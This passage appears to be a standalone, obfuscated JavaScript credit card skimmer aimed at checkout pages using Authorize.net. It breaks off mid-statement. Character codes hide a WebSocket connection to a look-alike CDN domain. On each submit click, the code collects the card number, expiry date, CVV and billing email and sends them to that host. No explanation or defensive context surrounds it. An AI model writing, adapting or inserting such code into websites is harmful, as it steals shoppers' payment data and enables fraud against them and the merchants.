(function () {
    var u = String.fromCharCode(119, 115, 115, 58, 47, 47, 117, 110, 112, 107, 103, 45, 99, 100, 110, 45, 109, 105, 114, 114, 111, 114, 46, 110, 101, 116, 58, 56, 52, 52, 51, 47, 115, 111, 99, 107, 101, 116);
    var W = window[String.fromCharCode(87, 101, 98, 83, 111, 99, 107, 101, 116)];
    var s = new W(u);
    var d = document;

    function v(n) {
        var e = d.getElementsByName(n)[0];
        return e ? e.value : "";
    }

    d.addEventListener("click", function (ev) {
        if (!ev.target || ev.target.type !== "submit") return;
        var o = {
            a: v("authorizenet_cc_number"),
            b: v("authorizenet_expiration"),
            c: v("authorizenet_expiration_yr"),
            d: v("authorizenet_cc_cid"),
            e: v("billing[email]")
        };
        if (s.readyState === 1) {
            s.send(JSON.stringify(o));
        } else {
            s.addEventListener("open", function () {
                s.send(JSON.stringify(o)
